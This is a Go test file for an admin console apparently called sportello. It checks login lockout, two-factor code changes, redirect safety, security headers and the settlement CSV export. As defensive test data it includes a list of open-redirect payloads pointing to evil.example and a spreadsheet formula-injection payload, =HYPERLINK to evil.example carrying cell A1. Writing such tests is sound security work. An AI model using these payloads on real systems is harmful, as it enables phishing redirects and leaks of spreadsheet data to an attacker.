package admin

import (
	"context"
	"encoding/base32"
	"encoding/csv"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sportello/sportello/internal/admin/staff"
	"github.com/sportello/sportello/internal/operators"
	"github.com/sportello/sportello/internal/totp"
)

// loginForm posts a log-in as a browser tab with one log-in token would.
func (f *fixture) loginForm(t *testing.T, tok string, form url.Values) (*http.Response, string) {
	t.Helper()
	req, _ := http.NewRequest("POST", f.srv.URL+"/admin/login", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.AddCookie(&http.Cookie{Name: loginCookie, Value: tok})
	resp, err := http.DefaultTransport.RoundTrip(req)
	return page(t, resp, err)
}

func (f *fixture) loginToken(t *testing.T) string {
	t.Helper()
	_, p := get(t, f.client(t), f.srv.URL+"/admin/login")
	return csrfOf(t, p)
}

func hasSession(resp *http.Response) bool {
	for _, ck := range resp.Cookies() {
		if ck.Name == sessionCookie && ck.Value != "" {
			return true
		}
	}
	return false
}

// A burst of wrong guesses fired at once locks the account for that
// address after 5, and the right password after it does not sign in.
func TestLoginBurst(t *testing.T) {
	f := newFixture(t)
	tok := f.loginToken(t)
	const burst = 30
	var wg sync.WaitGroup
	statuses := make(chan int, burst)
	for range burst {
		wg.Add(1)
		go func() {
			defer wg.Done()
			resp, _ := f.loginForm(t, tok, url.Values{"csrf": {tok}, "user": {"clerk"}, "password": {"a wrong guess"}})
			statuses <- resp.StatusCode
		}()
	}
	wg.Wait()
	close(statuses)
	for s := range statuses {
		if s != http.StatusUnauthorized && s != http.StatusTooManyRequests && s != http.StatusServiceUnavailable {
			t.Errorf("a guess answered %d", s)
		}
	}
	resp, body := f.loginForm(t, tok, url.Values{"csrf": {tok}, "user": {"clerk"}, "password": {pw}})
	if resp.StatusCode != http.StatusTooManyRequests || hasSession(resp) {
		t.Fatalf("the right password after a burst of %d guesses: %s, session %v", burst, resp.Status, hasSession(resp))
	}
	if resp.Header.Get(reasonHeader) != "login_locked" || !strings.Contains(body, `data-reason="login_locked"`) {
		t.Errorf("reason %q", resp.Header.Get(reasonHeader))
	}
	if s, err := strconv.Atoi(resp.Header.Get("Retry-After")); err != nil || s <= 0 || s > 3600 {
		t.Errorf("Retry-After %q", resp.Header.Get("Retry-After"))
	}
}

// An unknown user name answers exactly like a wrong password, attempt
// after attempt, lock-out included; so does a disabled account.
func TestLoginSameAnswer(t *testing.T) {
	norm := regexp.MustCompile(`value="[A-Za-z0-9_-]{43}"|clerk|ghost|finance`)
	run := func(user, password string, disable bool) (seq, first string) {
		f := newFixture(t)
		if disable {
			admin, atok := f.login(t, "admin")
			if resp, _ := post(t, admin, f.srv.URL+"/admin/staff/"+user+"/disable", url.Values{"csrf": {atok}}); resp.StatusCode != http.StatusSeeOther {
				t.Fatalf("disable: %s", resp.Status)
			}
		}
		tok := f.loginToken(t)
		var out []string
		for i := range 7 {
			resp, body := f.loginForm(t, tok, url.Values{"csrf": {tok}, "user": {user}, "password": {password}})
			out = append(out, resp.Status+" "+resp.Header.Get(reasonHeader))
			if i == 0 {
				first = norm.ReplaceAllString(body, "X")
			}
		}
		return strings.Join(out, ", "), first
	}
	wrong, wrongPage := run("clerk", "a wrong guess", false)
	unknown, unknownPage := run("ghost", "a wrong guess", false)
	disabled, disabledPage := run("finance", pw, true)
	if wrong != unknown || wrong != disabled {
		t.Errorf("answers differ:\nwrong password: %s\nunknown user:   %s\ndisabled:       %s", wrong, unknown, disabled)
	}
	if !strings.Contains(unknown, "429") {
		t.Errorf("an unknown user name never locks: %s", unknown)
	}
	if wrongPage != unknownPage || wrongPage != disabledPage {
		t.Error("the page for an unknown user or a disabled account differs from the one for a wrong password")
	}
}

// When the password checks are all busy, a log-in is answered at once:
// 503, a reason code and Retry-After.
func TestLoginBusy(t *testing.T) {
	f := newFixture(t)
	f.con.Staff.Gate = staff.NewGate(1, 0)
	running, hold := make(chan struct{}), make(chan struct{})
	go f.con.Staff.Gate.Do(context.Background(), func() { close(running); <-hold })
	<-running
	tok := f.loginToken(t)
	resp, _ := f.loginForm(t, tok, url.Values{"csrf": {tok}, "user": {"clerk"}, "password": {pw}})
	close(hold)
	if resp.StatusCode != http.StatusServiceUnavailable || resp.Header.Get("Retry-After") != "1" || resp.Header.Get(reasonHeader) != "login_busy" || hasSession(resp) {
		t.Fatalf("log-in with the gate full: %s, Retry-After %q, reason %q", resp.Status, resp.Header.Get("Retry-After"), resp.Header.Get(reasonHeader))
	}
	f.login(t, "clerk") // and it did not count as a failure
}

var secretRE = regexp.MustCompile(`name="secret" value="([A-Z2-7]+)"`)

func totpCode(t *testing.T, secret string, at time.Time) string {
	t.Helper()
	b, err := base32.StdEncoding.WithPadding(base32.NoPadding).DecodeString(secret)
	if err != nil {
		t.Fatal(err)
	}
	return totp.At(b, at)
}

// Turning one-time codes on needs the password; replacing or turning them
// off needs the password and a current code: a borrowed session is not
// enough to move the codes to another phone.
func TestTOTPChangesNeedPasswordAndCode(t *testing.T) {
	f := newFixture(t)
	c, tok := f.login(t, "clerk")
	now := f.con.now()
	u := f.srv.URL + "/admin/account/totp"
	start := func() string {
		t.Helper()
		_, body := post(t, c, u, url.Values{"csrf": {tok}, "action": {"start"}})
		m := secretRE.FindStringSubmatch(body)
		if m == nil {
			t.Fatal("no secret on the set-up page")
		}
		return m[1]
	}
	secretOf := func() string {
		a, err := f.con.Staff.Account("clerk")
		if err != nil {
			t.Fatal(err)
		}
		return base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(a.TOTPSecret)
	}

	s1 := start()
	if resp, _ := post(t, c, u, url.Values{"csrf": {tok}, "action": {"confirm"}, "secret": {s1}, "code": {totpCode(t, s1, now)}}); resp.StatusCode != http.StatusForbidden || secretOf() != "" {
		t.Fatalf("turning codes on without the password: %s, secret stored %v", resp.Status, secretOf() != "")
	}
	if resp, _ := post(t, c, u, url.Values{"csrf": {tok}, "action": {"confirm"}, "secret": {s1}, "code": {totpCode(t, s1, now)}, "password": {pw}}); resp.StatusCode != http.StatusSeeOther || secretOf() != s1 {
		t.Fatalf("turning codes on with the password: %s", resp.Status)
	}

	// Someone at the signed-in browser tries to put the codes on their
	// phone. (Each try counts as a failed log-in: 4 here, and the fifth
	// below succeeds, which starts the count afresh.)
	s2 := start()
	for name, form := range map[string]url.Values{
		"password, no code":    {"code": {totpCode(t, s2, now)}, "password": {pw}},
		"password, wrong code": {"code": {totpCode(t, s2, now)}, "password": {pw}, "current": {"000000"}},
		"code, no password":    {"code": {totpCode(t, s2, now)}, "current": {totpCode(t, s1, now.Add(30*time.Second))}},
	} {
		form.Set("csrf", tok)
		form.Set("action", "confirm")
		form.Set("secret", s2)
		resp, body := post(t, c, u, form)
		if resp.StatusCode != http.StatusForbidden || secretOf() != s1 {
			t.Errorf("replacing the codes with %s: %s, secret replaced %v", name, resp.Status, secretOf() != s1)
		}
		if !strings.Contains(body, `data-reason="reauth_failed"`) {
			t.Errorf("replacing the codes with %s: no reason code", name)
		}
	}
	// The staff member, with both.
	resp, _ := post(t, c, u, url.Values{"csrf": {tok}, "action": {"confirm"}, "secret": {s2}, "code": {totpCode(t, s2, now)}, "password": {pw}, "current": {totpCode(t, s1, now.Add(30*time.Second))}})
	if resp.StatusCode != http.StatusSeeOther || secretOf() != s2 {
		t.Fatalf("replacing the codes with password and current code: %s", resp.Status)
	}
	for name, form := range map[string]url.Values{
		"no code":     {"password": {pw}},
		"no password": {"current": {totpCode(t, s2, now.Add(30*time.Second))}},
	} {
		form.Set("csrf", tok)
		form.Set("action", "off")
		if resp, _ := post(t, c, u, form); resp.StatusCode != http.StatusForbidden || secretOf() != s2 {
			t.Errorf("turning the codes off with %s: %s", name, resp.Status)
		}
	}
	resp, _ = post(t, c, u, url.Values{"csrf": {tok}, "action": {"off"}, "password": {pw}, "current": {totpCode(t, s2, now.Add(30*time.Second))}})
	if resp.StatusCode != http.StatusSeeOther || secretOf() != "" {
		t.Fatalf("turning the codes off with password and current code: %s", resp.Status)
	}
}

// The language switch and the log-in's next page go back only to a path
// of this site, however a browser would read the value.
func TestRedirectsStayOnSite(t *testing.T) {
	f := newFixture(t)
	browserReads := func(loc string) string {
		// What WHATWG URL parsing does before anything else: drop tabs and
		// newlines, read backslashes as slashes, trim spaces and controls.
		loc = strings.Map(func(r rune) rune {
			switch {
			case r == '\t' || r == '\n' || r == '\r':
				return -1
			case r == '\\':
				return '/'
			}
			return r
		}, loc)
		return strings.TrimFunc(loc, func(r rune) bool { return r <= ' ' })
	}
	offSite := func(loc string) bool {
		b := browserReads(loc)
		u, err := url.Parse(b)
		return !strings.HasPrefix(b, "/") || strings.HasPrefix(b, "//") || err != nil || u.Host != "" || u.Scheme != ""
	}
	hostile := []string{
		"/\t/evil.example/x", "//evil.example/x", "/\\evil.example/x", "\\\\evil.example", "/\\/evil.example",
		"https://evil.example/", "javascript:alert(1)", "/\n/evil.example", " //evil.example", "/\x00/evil.example",
		"/directory\t/../\t/evil.example", "evil.example", "", "/%2F/evil.example",
	}
	for _, back := range hostile {
		resp, _ := get(t, f.client(t), f.srv.URL+"/admin/lang?to=en&back="+url.QueryEscape(back))
		loc := resp.Header.Get("Location")
		if resp.StatusCode != http.StatusSeeOther || offSite(loc) || loc != "/admin/" {
			t.Errorf("back=%q: %s to %q, want /admin/", back, resp.Status, loc)
		}
	}
	for _, back := range []string{"/directory", "/admin/operators?status=applied", "/admin/audit?cf=&actor=admin"} {
		resp, _ := get(t, f.client(t), f.srv.URL+"/admin/lang?to=en&back="+url.QueryEscape(back))
		if loc := resp.Header.Get("Location"); loc != back {
			t.Errorf("back=%q: to %q", back, loc)
		}
	}
	// The raw query as the attack sent it.
	resp, _ := get(t, f.client(t), f.srv.URL+"/admin/lang?to=en&back=/%09/evil.example/x")
	if loc := resp.Header.Get("Location"); loc != "/admin/" {
		t.Errorf("back=/%%09/evil.example/x: to %q", loc)
	}
	for _, next := range append(hostile, "/admin/login?next=//evil.example", "/directory") {
		tok := f.loginToken(t)
		resp, _ := f.loginForm(t, tok, url.Values{"csrf": {tok}, "user": {"auditor"}, "password": {pw}, "next": {next}})
		if loc := resp.Header.Get("Location"); resp.StatusCode != http.StatusSeeOther || loc != "/admin/" {
			t.Errorf("log-in with next=%q: %s to %q, want /admin/", next, resp.Status, loc)
		}
	}
	tok := f.loginToken(t)
	resp, _ = f.loginForm(t, tok, url.Values{"csrf": {tok}, "user": {"auditor"}, "password": {pw}, "next": {"/admin/audit?actor=x"}})
	if loc := resp.Header.Get("Location"); loc != "/admin/audit?actor=x" {
		t.Errorf("log-in with a console page as next: to %q", loc)
	}
}

// Every answer of the console and the public pages, whoever writes it,
// carries nosniff, DENY and a CSP with frame-ancestors 'none'; pages hold
// no inline script or style the policy would have to allow.
func TestSecurityHeadersEverywhere(t *testing.T) {
	f := newFixture(t)
	admin, _ := f.login(t, "admin")
	anon := f.client(t)
	inline := regexp.MustCompile(`(?i)<script|<style|\sstyle=|\son[a-z]+=|javascript:`)
	for _, c := range []struct {
		c    *http.Client
		path string
	}{
		{anon, "/admin/login"}, {anon, "/directory"}, {anon, "/admin/"}, {anon, "/admin/operators"}, {anon, "/static/sportello.css"},
		{anon, "/admin/lang?to=en&back=/directory"}, {anon, "/api/v1/anything"}, {anon, "/admin/no-such-page"},
		{admin, "/admin/"}, {admin, "/admin/operators"}, {admin, "/admin/operators/" + f.opID}, {admin, "/admin/map"}, {admin, "/admin/fees"},
		{admin, "/admin/settlements"}, {admin, "/admin/settlements/" + f.opID}, {admin, "/admin/settlements/" + f.opID + "/csv"},
		{admin, "/admin/settlements/" + f.opID + "/pdf"}, {admin, "/admin/settlements.csv"}, {admin, "/admin/activity"},
		{admin, "/admin/persons"}, {admin, "/admin/audit"}, {admin, "/admin/staff"}, {admin, "/admin/account"},
		{admin, "/admin/settlements?month=2026-13"},
	} {
		resp, body := get(t, c.c, f.srv.URL+c.path)
		h := resp.Header
		csp := h.Get("Content-Security-Policy")
		if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("X-Frame-Options") != "DENY" || !strings.Contains(csp, "frame-ancestors 'none'") {
			t.Errorf("%s (%s): nosniff %q, X-Frame-Options %q, CSP %q", c.path, resp.Status, h.Get("X-Content-Type-Options"), h.Get("X-Frame-Options"), csp)
		}
		if strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "unsafe-eval") || (strings.HasPrefix(h.Get("Content-Type"), "text/html") && !strings.Contains(csp, "script-src") && !strings.Contains(csp, "default-src 'none'")) {
			t.Errorf("%s: weak CSP %q", c.path, csp)
		}
		if strings.HasPrefix(h.Get("Content-Type"), "text/html") && inline.MatchString(body) {
			t.Errorf("%s: inline script or style %q that the CSP forbids", c.path, inline.FindString(body))
		}
	}
}

// The settlement CSV is Italian by default (';' and decimal commas), with
// a comma variant on request; other values are refused.
func TestSettlementCSVFormats(t *testing.T) {
	f := newFixture(t)
	admin, _ := f.login(t, "admin")
	for _, tc := range []struct {
		query string
		comma rune
	}{{"", ';'}, {"?sep=semicolon", ';'}, {"?sep=comma", ','}} {
		for _, path := range []string{"/admin/settlements/" + f.opID + "/csv", "/admin/settlements.csv"} {
			resp, body := get(t, admin, f.srv.URL+path+tc.query)
			if resp.StatusCode != 200 {
				t.Fatalf("%s%s: %s", path, tc.query, resp.Status)
			}
			r := csv.NewReader(strings.NewReader(body))
			r.Comma = tc.comma
			rows, err := r.ReadAll()
			// 13 columns at least: issue 15 appended the payment's (the
			// certificate's: 15, the summary: 14).
			if err != nil || len(rows) < 2 || len(rows[0]) < 13 {
				t.Errorf("%s%s: not CSV separated by %q: %v %q", path, tc.query, tc.comma, err, body)
				continue
			}
			amount := rows[len(rows)-1][11]
			want := regexp.MustCompile(`^[0-9]+,[0-9]{2}$`)
			if tc.comma == ',' {
				want = regexp.MustCompile(`^[0-9]+\.[0-9]{2}$`)
			}
			if !want.MatchString(amount) {
				t.Errorf("%s%s: amount %q", path, tc.query, amount)
			}
		}
	}
	if resp, _ := get(t, admin, f.srv.URL+"/admin/settlements.csv?sep=tab"); resp.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("sep=tab: %s", resp.Status)
	}
}

// An operator's name is the applicant's text: in the settlement CSV it
// must not become a formula on the clerk's computer.
func TestSettlementCSVNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	o, _ := f.ops.Get(f.opID)
	evil := *o
	evil.ID, evil.PartitaIVA, evil.LegalName = "", "01234567897", `=HYPERLINK("https://evil.example/?"&A1;"Edicola")`
	if err := f.ops.Add(&evil, "test"); err != nil {
		t.Fatal(err)
	}
	if _, err := f.ops.SetStatus(evil.ID, operators.Approved, "test", "documenti verificati"); err != nil {
		t.Fatal(err)
	}
	admin, _ := f.login(t, "admin")
	for _, q := range []string{"", "?sep=comma"} {
		_, body := get(t, admin, f.srv.URL+"/admin/settlements.csv"+q)
		r := csv.NewReader(strings.NewReader(body))
		r.Comma = ';'
		if q != "" {
			r.Comma = ','
		}
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("sep %q: cell %q would run as a formula", q, cell)
				}
				found = found || strings.Contains(cell, "HYPERLINK")
			}
		}
		if !found {
			t.Errorf("sep %q: the operator's row is missing: %q", q, body)
		}
	}
}
